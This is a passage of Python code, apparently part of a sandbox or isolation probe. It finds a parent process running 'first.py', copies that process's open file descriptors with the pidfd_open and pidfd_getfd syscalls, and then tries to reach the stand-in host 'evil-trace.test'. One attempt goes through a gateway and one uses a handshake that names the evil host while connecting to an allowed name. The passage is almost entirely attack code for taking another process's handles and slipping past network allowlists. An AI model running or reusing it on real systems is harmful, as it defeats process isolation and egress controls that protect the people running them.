shim = os.getppid()
while shim > 1 and b"first.py" not in open(f"/proc/{shim}/cmdline", "rb").read():
    shim = int(open(f"/proc/{shim}/stat").read().rsplit(")", 1)[1].split()[1])
taken = 0
for number in range(3, 40):
    import ctypes

    libc = ctypes.CDLL(None)
    process = libc.syscall(434, shim, 0)
    copy = libc.syscall(438, process, number, 0)
    if copy >= 0:
        taken += 1
print("tried")
print("through the gateway:", word(connect, "evil-trace.test:443"))
print("at an allowed name:", word(tcp, "trace.wild.test", 443, hello("evil-trace.test") + GOODS))
